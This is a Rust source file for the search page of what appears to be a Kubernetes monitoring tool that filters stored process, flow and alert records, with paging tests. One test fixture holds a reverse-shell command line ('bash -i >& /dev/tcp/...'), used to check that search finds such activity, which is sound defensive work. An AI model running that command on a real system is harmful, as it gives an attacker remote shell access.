//! Search: stored records of the scope by kind, namespace, pod, executable or comm, command
//! line text, peer and port, oldest first, a page at a time. The page link carries a cursor
//! (the arrival time of the page's last record and how many records of that instant it
//! showed), so a page costs one scan from where the previous one stopped, however deep.

use std::net::IpAddr;

use maud::{html, Markup};

use super::render::{self, href, Nav, Page};
use super::tables;
use super::{Ctx, PageError};
use crate::aggregator::store::{EventQuery, Store, StoreError};
use crate::model::{Event, Record, RecordKind};

pub const PAGE_SIZE: usize = 50;
/// Records one page may read before it stops and says so.
const MAX_SCANNED: u64 = 5_000_000;

/// What the records must match (the store's filter aside).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SearchFilter {
    /// Substring of comm or exe.
    pub name: Option<Vec<u8>>,
    /// Substring of the command line (arguments joined by spaces).
    pub argv: Option<Vec<u8>>,
    pub peer: Option<IpAddr>,
    pub port: Option<u16>,
}

/// Where a page starts: after `skip` records that arrived at `at`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Cursor {
    pub at: u64,
    pub skip: usize,
}

impl Cursor {
    pub fn parse(s: &str) -> Option<Cursor> {
        let (at, skip) = s.split_once('.')?;
        Some(Cursor {
            at: at.parse().ok()?,
            skip: skip.parse().ok()?,
        })
    }

    pub fn to_param(self) -> String {
        format!("{}.{}", self.at, self.skip)
    }
}

pub struct SearchPage {
    pub rows: Vec<Event>,
    pub next: Option<Cursor>,
    pub scanned: u64,
    pub stopped: bool,
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    needle.is_empty() || haystack.windows(needle.len()).any(|w| w == needle)
}

impl SearchFilter {
    pub fn matches(&self, e: &Event) -> bool {
        let process = match &e.record {
            Record::Process(p) => Some(p),
            Record::Alert(a) => a.process.as_deref(),
            _ => None,
        };
        if let Some(name) = &self.name {
            let named = process.is_some_and(|p| {
                contains(&p.comm, name) || p.exe.as_deref().is_some_and(|x| contains(x, name))
            });
            if !named {
                return false;
            }
        }
        if let Some(text) = &self.argv {
            if !process.is_some_and(|p| contains(&p.argv.join(&b' '), text)) {
                return false;
            }
        }
        if self.peer.is_some() || self.port.is_some() {
            let endpoints: Vec<(Option<IpAddr>, Option<u16>, u16)> = match &e.record {
                Record::Flow(f) => vec![(f.remote_addr, f.remote_port, f.local_port)],
                Record::Listener(l) => vec![(None, None, l.local_port)],
                Record::Alert(a) => a
                    .flows
                    .iter()
                    .map(|f| (f.remote_addr, f.remote_port, f.local_port))
                    .collect(),
                _ => return false,
            };
            let hit = endpoints.iter().any(|(addr, remote, local)| {
                self.peer.is_none_or(|p| *addr == Some(p))
                    && self
                        .port
                        .is_none_or(|port| *remote == Some(port) || *local == port)
            });
            if !hit {
                return false;
            }
        }
        true
    }
}

/// One page of matching records from `cursor` on.
pub fn search(
    store: &dyn Store,
    query: &EventQuery,
    filter: &SearchFilter,
    cursor: Cursor,
    size: usize,
) -> Result<SearchPage, StoreError> {
    let mut rows = Vec::with_capacity(size + 1);
    let mut skipped = 0;
    let mut scanned = 0u64;
    let mut stopped = false;
    let query = EventQuery {
        since: query.since.max(cursor.at),
        ..query.clone()
    };
    store.scan(&query, &mut |e| {
        scanned += 1;
        if scanned > MAX_SCANNED {
            stopped = true;
            return false;
        }
        if !filter.matches(&e) {
            return true;
        }
        if e.received_at == cursor.at && skipped < cursor.skip {
            skipped += 1;
            return true;
        }
        rows.push(e);
        rows.len() <= size
    })?;
    let next = if rows.len() > size {
        rows.truncate(size);
        rows.last().map(|last| {
            let same = rows
                .iter()
                .filter(|e| e.received_at == last.received_at)
                .count();
            Cursor {
                at: last.received_at,
                skip: same
                    + if last.received_at == cursor.at {
                        cursor.skip
                    } else {
                        0
                    },
            }
        })
    } else {
        None
    };
    Ok(SearchPage {
        rows,
        next,
        scanned,
        stopped,
    })
}

const KINDS: [(&str, &str); 5] = [
    ("flow", "flows"),
    ("process", "processes"),
    ("listener", "listeners"),
    ("alert", "alerts"),
    ("heartbeat", "heartbeats"),
];

pub fn build(ctx: &Ctx) -> Result<Page, PageError> {
    let p = &ctx.params;
    let bad = |what: &str, v: &str| PageError::BadRequest(format!("{what} {v:?} is not valid"));
    let kind = match p.get("kind") {
        None => None,
        Some(k) => Some(k.parse::<RecordKind>().map_err(|_| bad("kind", k))?),
    };
    let filter = SearchFilter {
        name: p.get("name").map(|s| s.as_bytes().to_vec()),
        argv: p.get("argv").map(|s| s.as_bytes().to_vec()),
        peer: p
            .get("peer")
            .map(|v| v.parse().map_err(|_| bad("peer", v)))
            .transpose()?,
        port: p
            .get("port")
            .map(|v| v.parse().map_err(|_| bad("port", v)))
            .transpose()?,
    };
    let cursor = match p.get("cursor") {
        None => Cursor::default(),
        Some(c) => Cursor::parse(c).ok_or_else(|| bad("cursor", c))?,
    };
    let pods: Vec<String> = p.get("pod").map(|s| vec![s.to_owned()]).unwrap_or_default();
    let namespaces: Vec<String> = p.get("ns").map(|s| vec![s.to_owned()]).unwrap_or_default();
    let result = match ctx.question(&pods, &namespaces) {
        Some(q) => Some(search(
            ctx.investigator.store().as_ref(),
            &EventQuery {
                kinds: kind.into_iter().collect(),
                ..q.query
            },
            &filter,
            cursor,
            PAGE_SIZE,
        )?),
        None => None,
    };
    let keep_names = ["kind", "ns", "pod", "name", "argv", "peer", "port"];
    let keep: Vec<(&'static str, String)> = keep_names
        .iter()
        .filter_map(|k| p.get(k).map(|v| (*k, v.to_owned())))
        .collect();
    let field = |name: &str, label: &str, hint: &str| {
        html! { label { (label) " " input name=(name) value=(p.get(name).unwrap_or("")) placeholder=(hint) size="16"; } }
    };
    let body = html! {
        form.panel method="get" action="/search" role="search" {
            @for (k, v) in ctx.scope.params() { input type="hidden" name=(k) value=(v); }
            label { "Kind " select name="kind" {
                option value="" { "any" }
                @for (k, label) in KINDS { option value=(k) selected[p.get("kind") == Some(k)] { (label) } }
            } }
            " " (field("ns", "Namespace", "shop"))
            " " (field("pod", "Pod", "web-6d8f9c7b5-x2k4q"))
            " " (field("name", "Executable or comm", "curl"))
            " " (field("argv", "Command line contains", "/dev/tcp"))
            " " (field("peer", "Peer IP", "203.0.113.7"))
            " " (field("port", "Port", "443"))
            " " button type="submit" { "Search" }
        }
        @match &result {
            None => (render::empty("records you may see")),
            Some(page) => {
                p.muted role="status" {
                    (page.rows.len()) " records on this page, oldest first"
                    @if cursor != Cursor::default() { " (continued)" }
                    "; " (page.scanned) " read."
                }
                @if page.stopped { p.notice { "Stopped after reading " (MAX_SCANNED) " records: narrow the scope or the filter." } }
                @if page.rows.is_empty() { (render::empty("matching records")) }
                @else { (rows(ctx, &page.rows)) }
                nav.pager aria-label="Pages" {
                    @if cursor != Cursor::default() {
                        a href=(page_href(ctx, &keep, None)) { "⇤ First page" }
                    }
                    @if let Some(next) = page.next {
                        a href=(page_href(ctx, &keep, Some(next))) rel="next" { "Next page →" }
                    }
                }
            }
        }
    };
    Ok(Page {
        title: "Search".into(),
        nav: Nav::Search,
        path: "/search",
        keep,
        body,
        scripts: &[],
    })
}

fn page_href(ctx: &Ctx, keep: &[(&'static str, String)], cursor: Option<Cursor>) -> String {
    let mut extra: Vec<(&str, String)> = keep.iter().map(|(k, v)| (*k, v.clone())).collect();
    if let Some(c) = cursor {
        extra.push(("cursor", c.to_param()));
    }
    let refs: Vec<(&str, &str)> = extra.iter().map(|(k, v)| (*k, v.as_str())).collect();
    href("/search", &ctx.scope, &refs)
}

fn rows(ctx: &Ctx, events: &[Event]) -> Markup {
    let scope = &ctx.scope;
    html! {
        div.scroll { table {
            thead { tr { th scope="col" { "Received" } th scope="col" { "Kind" } th scope="col" { "Pod" } th scope="col" { "What" } } }
            tbody { @for e in events {
                @let (ns, pod) = (&e.source.pod_namespace, &e.source.pod_name);
                tr {
                    td { (render::time(e.received_at)) }
                    td { (e.record.kind().as_str()) }
                    td { (tables::pod_link(scope, ns, pod)) }
                    td { @match &e.record {
                        Record::Flow(f) => {
                            (render::direction_label(f.direction)) " " (render::scope_label(f.scope)) " "
                            @if let (Some(ip), Some(port)) = (f.remote_addr, f.remote_port) { (tables::endpoint_link(scope, &ip)) ":" (port) " " }
                            (format!("{:?}", f.phase).to_lowercase())
                            @if let Some(b) = f.bytes_sent { ", sent " (render::bytes(b)) }
                            @if let Some(b) = f.bytes_received { ", received " (render::bytes(b)) }
                            @if let Some(pid) = f.pid { ", " a href=(tables::process_href(scope, ns, pod, pid, f.process_start_time)) { "pid " (pid) } }
                        },
                        Record::Process(p) => {
                            (format!("{:?}", p.phase).to_lowercase()) " "
                            a href=(tables::process_href(scope, ns, pod, p.pid, Some(p.start_time))) { (tables::image(&p.comm, p.exe.as_deref())) " (" (p.pid) ")" }
                            " " (render::argv(&p.argv))
                        },
                        Record::Listener(l) => { "listening on " (l.local_addr) ":" (l.local_port) " " (format!("{:?}", l.phase).to_lowercase()) },
                        Record::Alert(a) => { (render::severity(a.severity)) " " a href=(tables::alert_href(scope, &a.id)) { (a.rule_name) } },
                        Record::Heartbeat(h) => { (h.flows_tracked) " flows, " (h.processes_tracked) " processes tracked" },
                        Record::Audit(a) => {
                            (a.verb) " " (a.resource_path()) " by " (a.user.username)
                            @if let Some(ip) = a.source_ip() { " from " (ip) }
                            @if let Some(code) = a.response_code { ", " (code) }
                        },
                    } }
                }
            } }
        } }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::aggregator::store::{Retention, SqliteStore};
    use crate::model::CollectorIdentity;
    use std::sync::Arc;
    use std::time::Duration;

    fn store_with(events: Vec<Vec<Event>>) -> (tempfile::TempDir, SqliteStore) {
        let dir = tempfile::tempdir().expect("tempdir");
        let store = SqliteStore::open(
            dir.path(),
            Retention {
                max_age: Duration::from_secs(1 << 40),
                max_bytes: u64::MAX,
                rollups: crate::aggregator::store::ROLLUP_RETENTION,
            },
        )
        .expect("store");
        for (seq, batch) in events.into_iter().enumerate() {
            store
                .append("c1".into(), seq as u64, batch)
                .blocking_recv()
                .expect("reply")
                .expect("stored");
        }
        (dir, store)
    }

    fn process_event(at: u64, pid: u32, argv: &str) -> Event {
        let mut p = crate::fixtures::process(pid, b"sh");
        p.argv = argv.split(' ').map(|a| a.as_bytes().to_vec()).collect();
        Event {
            source: Arc::new(CollectorIdentity {
                collector_id: "c1".into(),
                pod_name: "web-0".into(),
                pod_namespace: "shop".into(),
                ..CollectorIdentity::default()
            }),
            received_at: at,
            record: Record::Process(p),
        }
    }

    #[test]
    fn pages_follow_each_other_without_gaps_or_repeats_even_within_one_instant() {
        // 7 batches; several records share an arrival time (one batch = one instant).
        let batches: Vec<Vec<Event>> = (0..7u32)
            .map(|b| {
                (0..5u32)
                    .map(|i| {
                        let pid = b * 10 + i;
                        let argv = if pid % 3 == 0 {
                            "sh -c evil"
                        } else {
                            "sh -c fine"
                        };
                        process_event(1_000 + u64::from(b), pid, argv)
                    })
                    .collect()
            })
            .collect();
        let (_dir, store) = store_with(batches);
        let filter = SearchFilter {
            argv: Some(b"evil".to_vec()),
            ..SearchFilter::default()
        };
        let expected: Vec<u32> = (0..7u32)
            .flat_map(|b| (0..5).map(move |i| b * 10 + i))
            .filter(|pid| pid % 3 == 0)
            .collect();
        for size in [1, 2, 3, 5, 100] {
            let mut cursor = Cursor::default();
            let mut seen = Vec::new();
            let mut pages = 0;
            loop {
                let page =
                    search(&store, &EventQuery::default(), &filter, cursor, size).expect("page");
                pages += 1;
                assert!(page.rows.len() <= size);
                seen.extend(page.rows.iter().map(|e| match &e.record {
                    Record::Process(p) => p.pid,
                    _ => unreachable!("only processes stored"),
                }));
                match page.next {
                    Some(next) => {
                        // The cursor survives the URL.
                        assert_eq!(Cursor::parse(&next.to_param()), Some(next));
                        cursor = next;
                    }
                    None => break,
                }
                assert!(pages < 100, "paging does not end");
            }
            assert_eq!(seen, expected, "page size {size}");
        }
        assert_eq!(Cursor::parse("12.x"), None);
        assert_eq!(Cursor::parse("-1.0"), None);
    }

    #[test]
    fn filters_match_names_argv_peers_and_ports() {
        let e = process_event(1, 7, "bash -i >& /dev/tcp/203.0.113.2/4444");
        let f = |filter: SearchFilter| filter.matches(&e);
        assert!(f(SearchFilter {
            argv: Some(b"/dev/tcp".to_vec()),
            ..Default::default()
        }));
        assert!(f(SearchFilter {
            name: Some(b"sh".to_vec()),
            ..Default::default()
        }));
        assert!(!f(SearchFilter {
            name: Some(b"curl".to_vec()),
            ..Default::default()
        }));
        assert!(
            !f(SearchFilter {
                port: Some(4444),
                ..Default::default()
            }),
            "a process has no port"
        );
        let mut flow = crate::fixtures::flow(1);
        flow.remote_addr = Some("203.0.113.2".parse().expect("ip"));
        flow.remote_port = Some(4444);
        let fe = Event {
            record: Record::Flow(flow),
            ..e.clone()
        };
        let peer: IpAddr = "203.0.113.2".parse().expect("ip");
        assert!(SearchFilter {
            peer: Some(peer),
            port: Some(4444),
            ..Default::default()
        }
        .matches(&fe));
        assert!(!SearchFilter {
            port: Some(443),
            ..Default::default()
        }
        .matches(&fe));
    }
}
